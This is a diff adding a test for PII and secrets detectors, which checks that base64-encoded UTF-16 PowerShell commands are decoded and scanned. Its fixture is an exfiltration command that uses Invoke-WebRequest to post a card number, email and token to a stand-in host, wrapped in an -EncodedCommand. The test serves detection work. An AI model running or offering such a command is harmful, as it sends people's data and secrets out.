@@ -220,6 +220,27 @@ test('a run that starts the text is read at its own alignment, wherever it was c
   }
 });
 
+test('text in UTF-16 (PowerShell\'s -EncodedCommand) is read inside base64, little- or big-endian; binary with zero bytes is not text', () => {
+  const pii = createPiiDetector({ id: 'pii' });
+  const secrets = createSecretsDetector({ id: 'secrets' });
+  const cmd = "Invoke-WebRequest -Uri https://collect.example/u -Method Post -Body 'card 4111 1111 1111 1111 mail jane.doe@example.com token ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5'";
+  for (const [name, bytes] of [['little-endian', Buffer.from(cmd, 'utf16le')], ['big-endian', Buffer.from(cmd, 'utf16le').swap16()]] as const) {
+    const run = bytes.toString('base64');
+    const t = `Run this: powershell -EncodedCommand ${run}`;
+    const types = [...pii.scan(t, ctx), ...secrets.scan(t, ctx)].map((f) => f.type);
+    for (const want of ['CREDIT_CARD', 'EMAIL', 'GITHUB_TOKEN']) assert.ok(types.includes(want), `${name}: ${want} in ${types}`);
+    // Each finding covers the groups of four holding its characters' bytes, not the whole run.
+    const card = pii.scan(t, ctx).find((f) => f.type === 'CREDIT_CARD')!;
+    const at = t.indexOf(run);
+    const byte = 2 * cmd.indexOf('4111');
+    assert.deepEqual([card.start - at, card.end - at], [4 * Math.floor(byte / 3), 4 * Math.ceil((byte + 2 * 19) / 3)], name);
+  }
+  // Sixteen-bit small numbers (zero high bytes too) are not text: control characters.
+  const samples = Buffer.alloc(600);
+  for (let i = 0; i < 300; i++) samples.writeUInt16LE((i * 37) % 256, 2 * i);
+  assert.equal(normalize(`x ${samples.toString('base64')} y`, { maxDecodeSpan: 512, pieces: PIECE_BYTES }).decoded.length, 0);
+});
+
 test('unspaced eight-bit groups cut at either end (a window starting inside the run, a run still arriving) are read without the partial group', () => {
   const pii = createPiiDetector({ id: 'pii' });
   const bits = binary('ok. card 4111 1111 1111 1111 on file, the rest follows here. ', '');
